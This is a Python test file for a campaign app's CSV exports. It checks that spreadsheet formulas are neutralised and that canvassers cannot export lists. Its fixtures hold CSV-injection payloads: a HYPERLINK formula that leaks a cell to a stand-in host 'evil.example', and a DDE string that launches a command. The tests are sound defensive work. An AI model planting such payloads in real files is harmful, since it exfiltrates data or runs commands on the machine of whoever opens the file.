"""Exports: every CSV neutralises spreadsheet formulas (OWASP CSV injection), and only organisers, leads and admins export.

Runs on the seeded results campaign (tests/test_results.py), on SQLite and PostgreSQL.
"""

from __future__ import annotations

import csv
import io

from litestar import Litestar
from litestar.testing import AsyncTestClient
from sqlalchemy import select, update
from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker

from server.db.models import Assignment, AuditEvent, CensusArea, Person, WalkListStop
from tests.test_results import Seeded, seeded  # noqa: F401  (fixture)

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
HOSTILE_PHONE = "+44 7700 900123"
HOSTILE_AREA = "@SUM(1+1)*cmd|' /C calc'!A0"


def cells(text: str) -> list[list[str]]:
    """Every row of a CSV body."""
    return list(csv.reader(io.StringIO(text)))


def assert_no_live_formula(text: str) -> None:
    """No cell of the CSV begins with a character a spreadsheet reads as a formula."""
    for row in cells(text):
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), (cell, row)


async def _poison(sessionmaker: async_sessionmaker[AsyncSession], campaign: Seeded, person_id: int) -> int:
    """Give one follow-up person formula forenames and a +44 phone, one area a formula name; answer a walk list holding the person."""
    async with sessionmaker() as session:
        await session.execute(update(Person).where(Person.id == person_id).values(forenames=HOSTILE_NAME, phone=HOSTILE_PHONE))
        area_id = await session.scalar(select(CensusArea.id).where(CensusArea.campaign_id == campaign.campaign_id).order_by(CensusArea.id))
        await session.execute(update(CensusArea).where(CensusArea.id == area_id).values(name=HOSTILE_AREA))
        address_id = await session.scalar(select(Person.address_id).where(Person.id == person_id))
        walk_list_id = await session.scalar(select(WalkListStop.walk_list_id).where(WalkListStop.address_id == address_id))
        await session.commit()
    assert walk_list_id is not None
    return int(walk_list_id)


async def test_every_csv_export_neutralises_formulas(
    client: AsyncTestClient[Litestar], seeded: Seeded, sessionmaker: async_sessionmaker[AsyncSession]  # noqa: F811
) -> None:
    """Walk-list CSV, follow-up CSV and results CSV: formula cells come out prefixed with a quote, the text otherwise intact."""
    cid = seeded.campaign_id
    people = (await client.get(f"/api/campaigns/{cid}/results/follow-ups", headers=seeded.auth("lead"))).json()["people"]
    person_id = people[0]["person_id"]
    walk_list_id = await _poison(sessionmaker, seeded, person_id)

    walk_csv = await client.get(f"/api/campaigns/{cid}/walklists/{walk_list_id}/export.csv", headers=seeded.auth("organiser"))
    assert walk_csv.status_code == 200, walk_csv.text
    assert_no_live_formula(walk_csv.text)
    names = [row[6] for row in cells(walk_csv.text)[1:] if row[5] == str(person_id)]
    assert len(names) == 1 and names[0].startswith("'") and HOSTILE_NAME in names[0]

    follow_csv = await client.get(f"/api/campaigns/{cid}/exports/follow-ups.csv", headers=seeded.auth("lead"))
    assert follow_csv.status_code == 200, follow_csv.text
    assert_no_live_formula(follow_csv.text)
    row = next(r for r in cells(follow_csv.text)[1:] if r[0] == str(person_id))
    assert row[5] == "'" + HOSTILE_PHONE
    assert row[1].startswith("'" + HOSTILE_NAME)

    results_csv = await client.get(f"/api/campaigns/{cid}/exports/results.csv", headers=seeded.auth("lead"))
    assert results_csv.status_code == 200, results_csv.text
    assert_no_live_formula(results_csv.text)
    assert any(r[1] == "'" + HOSTILE_AREA for r in cells(results_csv.text)[1:])


async def test_canvassers_cannot_export_lists(
    client: AsyncTestClient[Litestar], seeded: Seeded, sessionmaker: async_sessionmaker[AsyncSession]  # noqa: F811
) -> None:
    """A canvasser reads their own list on screen but gets 403 for its CSV, GeoJSON and PDF; organisers and leads export (audited)."""
    cid = seeded.campaign_id
    async with sessionmaker() as session:
        own = await session.scalar(
            select(Assignment.walk_list_id).where(Assignment.user_id == seeded.users["canvasser"], Assignment.ended_at.is_(None)).order_by(Assignment.id)
        )
    base = f"/api/campaigns/{cid}/walklists/{own}"
    assert (await client.get(base, headers=seeded.auth("canvasser"))).status_code == 200
    for suffix in ("/export.csv", "/export.geojson", "/sheet.pdf"):
        denied = await client.get(base + suffix, headers=seeded.auth("canvasser"))
        assert denied.status_code == 403, (suffix, denied.status_code)
        assert denied.headers["content-type"].startswith("application/problem+json")
        for who in ("organiser", "lead"):
            allowed = await client.get(base + suffix, headers=seeded.auth(who))
            assert allowed.status_code == 200, (who, suffix, allowed.text[:200])
    async with sessionmaker() as session:
        exporters = set((await session.scalars(select(AuditEvent.user_id).where(AuditEvent.action == "export"))).all())
    assert exporters == {seeded.users["organiser"], seeded.users["lead"]}
